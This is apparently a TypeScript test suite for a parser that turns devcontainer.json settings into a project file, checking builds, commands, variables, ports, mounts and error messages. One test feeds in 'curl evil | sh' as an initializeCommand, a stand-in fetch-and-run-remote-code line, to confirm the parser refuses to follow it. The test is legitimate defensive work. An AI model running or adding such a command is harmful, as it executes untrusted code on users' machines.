import { strict as assert } from 'node:assert';
import type { ProjectFile } from '../../protocol/projectFile.ts';
import { parseProject } from '../parse.ts';
import { parseDevcontainer } from './parse.ts';
import { DEVCONTAINER_FILES } from './places.ts';
import type { Machine } from './variables.ts';
import { yamlOf } from './yaml.ts';

const [PATH = ''] = DEVCONTAINER_FILES;
const machine: Machine = {
  folder: '/home/me/shop',
  variable: name => ({ TOKEN: 'secret', EMPTY: '' })[name],
};

function parsed(said: object, place: { path?: string; machine?: Machine } = {}) {
  const done = parseDevcontainer(JSON.stringify(said), { path: PATH, machine, ...place });
  assert.ok(done.ok, JSON.stringify(done));
  return done;
}

const left = (said: object, place = {}) => parsed(said, place).unfollowed.map(({ what }) => what);

describe('a devcontainer.json', () => {
  it('is read with comments and trailing commas, and means nothing when it is empty', () => {
    const text =
      '// a comment\n{\n  "name": "Node & friends", /* why not */\n  "image": "node:24",\n  "forwardPorts": [3000,],\n}\n';
    const done = parseDevcontainer(text, { path: PATH, machine });
    assert.deepEqual(done, {
      ok: true,
      file: { image: 'node:24', ports: [3000] },
      unfollowed: [],
      variables: [],
    });
    assert.deepEqual(parsed({}).file, {});
    assert.deepEqual(parseDevcontainer('', { path: PATH }), {
      ok: true,
      file: {},
      unfollowed: [],
      variables: [],
    });
  });

  const meant: readonly (readonly [what: string, said: object, file: ProjectFile, path?: string])[] = [
    [
      'a Dockerfile beside it, with the project as its context',
      { build: { dockerfile: 'Dockerfile', context: '..', args: { NODE: '24' }, target: 'dev' } },
      {
        image: {
          dockerfile: '.devcontainer/Dockerfile',
          context: '.',
          arguments: { NODE: '24' },
          target: 'dev',
        },
      },
    ],
    [
      'a Dockerfile in the older words, at the top of the project',
      { dockerFile: 'docker/Dockerfile', context: 'docker/' },
      { image: { dockerfile: 'docker/Dockerfile', context: 'docker' } },
      '.devcontainer.json',
    ],
    [
      'a Dockerfile named from the project',
      // biome-ignore lint/suspicious/noTemplateCurlyInString: devcontainers have variables of this form.
      { build: { dockerfile: '${localWorkspaceFolder}/Dockerfile', context: '${localWorkspaceFolder}' } },
      { image: { dockerfile: 'Dockerfile', context: '.' } },
    ],
    [
      'commands in each form, in their order, and a network for them',
      {
        postCreateCommand: { install: 'npm ci', build: ['npm', 'run', 'build'] },
        onCreateCommand: ['git', 'lfs', 'pull'],
        updateContentCommand: 'make',
        postStartCommand: 'npm start',
      },
      {
        network: 'open',
        setup: [['git', 'lfs', 'pull'], 'make', 'npm ci', ['npm', 'run', 'build']],
        command: 'npm start',
      },
    ],
    [
      'variables of both kinds, where the outer ones can be part of the inner ones',
      {
        // biome-ignore-start lint/suspicious/noTemplateCurlyInString: devcontainers have variables of this form.
        containerEnv: { A: 'a', GONE: 'x', HERE: '${containerWorkspaceFolder}/bin' },
        remoteEnv: { B: '${containerEnv:A}-${containerEnv:NONE:else}', GONE: null },
        // biome-ignore-end lint/suspicious/noTemplateCurlyInString: as above.
      },
      { env: { A: 'a', HERE: '/workspace/bin', B: 'a-else' } },
    ],
    [
      'ports that are forwarded to anywhere, and ports that are published at one place',
      { forwardPorts: [3000, 'localhost:4000'], appPort: [5000, '8080:80'] },
      { ports: [3000, 4000, { guest: 5000, host: 5000 }, { guest: 80, host: 8080 }] },
    ],
    [
      'folders, as text and as an object',
      {
        mounts: [
          // biome-ignore lint/suspicious/noTemplateCurlyInString: devcontainers have variables of this form.
          'type=bind,source=${localWorkspaceFolder}/data,target=/data,readonly',
          { type: 'bind', source: '/srv', target: '/srv' },
        ],
      },
      {
        mounts: [
          { source: './data', target: '/data', mode: 'ro' },
          { source: '/srv', target: '/srv', mode: 'rw' },
        ],
      },
    ],
    [
      'the user that tools run as, by name',
      { remoteUser: 'vscode', containerUser: 'vscode' },
      { user: 'vscode' },
    ],
    [
      'the user of the container where tools have none of their own',
      { containerUser: 'node' },
      { user: 'node' },
    ],
    [
      'the place where the project is seen, once more for each that is not its usual one',
      // biome-ignore lint/suspicious/noTemplateCurlyInString: devcontainers have variables of this form.
      { workspaceFolder: '/workspaces/${localWorkspaceFolderBasename}/' },
      { mounts: [{ source: '.', target: '/workspaces/shop', mode: 'rw' }] },
    ],
    [
      'the place of a mount of the project',
      {
        // biome-ignore lint/suspicious/noTemplateCurlyInString: devcontainers have variables of this form.
        workspaceMount: 'source=${localWorkspaceFolder},target=/app,type=bind,consistency=cached',
        workspaceFolder: '/app',
        mounts: ['type=bind,source=/srv,target=/srv'],
      },
      {
        mounts: [
          { source: '.', target: '/app', mode: 'rw' },
          { source: '/srv', target: '/srv', mode: 'rw' },
        ],
      },
    ],
    ['the usual place as what it is', { workspaceFolder: '/workspace/' }, {}],
    [
      'extensions, without those that are taken away and without versions',
      {
        extensions: ['old.place'],
        customizations: {
          vscode: { extensions: ['dbaeumer.vscode-eslint', '-some.thing', 'a.b@1.2.3'] },
          codespaces: {},
        },
      },
      { extensions: ['old.place', 'dbaeumer.vscode-eslint', 'a.b'] },
    ],
  ];
  for (const [what, said, file, path = PATH] of meant) {
    it(`means ${what}`, () => {
      const done = parsed(said, { path });
      assert.deepEqual(done.file, file);
      assert.deepEqual(done.unfollowed, []);
    });
  }

  it('has everything named that is not followed', () => {
    const said = {
      features: { 'ghcr.io/devcontainers/features/go:1': {} },
      dockerComposeFile: 'docker-compose.yml',
      service: 'app',
      runArgs: ['--cap-add=SYS_PTRACE'],
      privileged: true,
      remoteUser: 'root',
      containerUser: 'vscode',
      workspaceFolder: '/usr/src/app',
      initializeCommand: 'curl evil | sh',
      postAttachCommand: 'true',
      hostRequirements: { cpus: 8 },
      build: { dockerfile: 'D', cacheFrom: 'x' },
      customizations: { vscode: { settings: {} } },
      forwardPorts: ['db:5432'],
      mounts: ['source=cache,target=/cache,type=volume', { type: 'tmpfs', target: '/t' }],
      postStartCommand: { a: 'a', b: 'b' },
      madeUp: 1,
    };
    assert.deepEqual(
      left(said).sort(),
      [
        ...[
          'features',
          'dockerComposeFile',
          'service',
          'runArgs',
          'privileged',
          'remoteUser',
          'containerUser',
        ],
        ...['workspaceFolder', 'initializeCommand', 'postAttachCommand', 'hostRequirements'],
        ...['build.cacheFrom', 'customizations.vscode.settings', 'forwardPorts.0', 'mounts.0', 'mounts.1'],
        ...['postStartCommand', 'madeUp'],
      ].sort(),
    );
    for (const { why } of parsed(said).unfollowed) assert.ok(why.length > 10, why);
    const same = { workspaceFolder: '/workspace', overrideCommand: true, privileged: false, waitFor: 'x' };
    assert.deepEqual(left(same), []);
  });

  // biome-ignore-start lint/suspicious/noTemplateCurlyInString: devcontainers have variables of this form.
  it('tells which variables of this machine it would show to programs inside', () => {
    const said = {
      containerEnv: {
        T: '${localEnv:TOKEN}',
        D: '${localEnv:NONE:other}',
        N: '${env:NONE}',
        E: '${localEnv:EMPTY:x}',
      },
    };
    const done = parsed(said);
    assert.deepEqual(done.file.env, { T: 'secret', D: 'other', N: '', E: '' });
    assert.deepEqual(done.variables, ['TOKEN', 'EMPTY']);
  });

  it('gets nothing of a machine into a file that is written down', () => {
    const said = { containerEnv: { T: '${localEnv:TOKEN}', W: '${localWorkspaceFolder}', K: 'kept' } };
    const done = parseDevcontainer(JSON.stringify(said), { path: PATH });
    assert.ok(done.ok);
    assert.deepEqual(done.file.env, { K: 'kept' });
    assert.deepEqual(
      done.unfollowed.map(({ what }) => what),
      ['containerEnv.T', 'containerEnv.W'],
    );
  });

  it('fills nothing of a machine into programs, and leaves what belongs to the shell', () => {
    const said = {
      onCreateCommand: 'cd ${containerWorkspaceFolder} && echo ${HOME}',
      postCreateCommand: 'echo ${localEnv:TOKEN}',
    };
    const done = parsed(said);
    assert.deepEqual(done.file.setup, ['cd /workspace && echo ${HOME}']);
    assert.deepEqual(
      done.unfollowed.map(({ what }) => what),
      ['postCreateCommand'],
    );
  });
  // biome-ignore-end lint/suspicious/noTemplateCurlyInString: as above.

  const wrong: readonly (readonly [text: string, start: string, message: RegExp])[] = [
    ['{ "image": 5 }', '1:12', /^image: /],
    ['{\n  "forwardPorts": ["http"]\n}', '2:20', /forwardPorts\.0: must be a port/],
    ['{ "image": "a" "b": 1 }', '1:16', /comma is expected/],
    ['{ "image": "a", "image": "b" }', '1:17', /stands twice/],
    ['[]', '1:1', /expected object/],
    ['{ "containerEnv": { "a b": "c" } }', '1:21', /letters, digits/],
    ['{ "customizations": { "vscode": { "extensions": ["no-dot"] } } }', '1:1', /publisher\.name/],
  ];
  for (const [text, start, message] of wrong) {
    it(`is refused where it is wrong: ${JSON.stringify(text)}`, () => {
      const done = parseDevcontainer(text, { path: PATH, machine });
      assert.ok(!done.ok);
      const [problem] = done.problems;
      assert.equal(`${problem?.start.line}:${problem?.start.column}`, start);
      assert.match(problem?.message ?? '', message);
    });
  }

  it('becomes a project file that means the same', () => {
    const said = {
      build: { dockerfile: 'Dockerfile', context: '..' },
      postCreateCommand: ['echo', '- a: b # c', 'two\nlines'],
      postStartCommand: 'echo "yes" && no',
      containerEnv: { YES: 'yes', NUMBER: '010', COLON: 'a: b' },
      forwardPorts: [3000],
      features: { 'x\ny': {} },
    };
    const done = parsed(said);
    const text = yamlOf(done, PATH);
    assert.deepEqual(parseProject(text), { ok: true, file: done.file });
    assert.match(text, /# {3}features: /);
    assert.deepEqual(parseProject(yamlOf(parsed({}), PATH)), { ok: true, file: {} });
  });
});
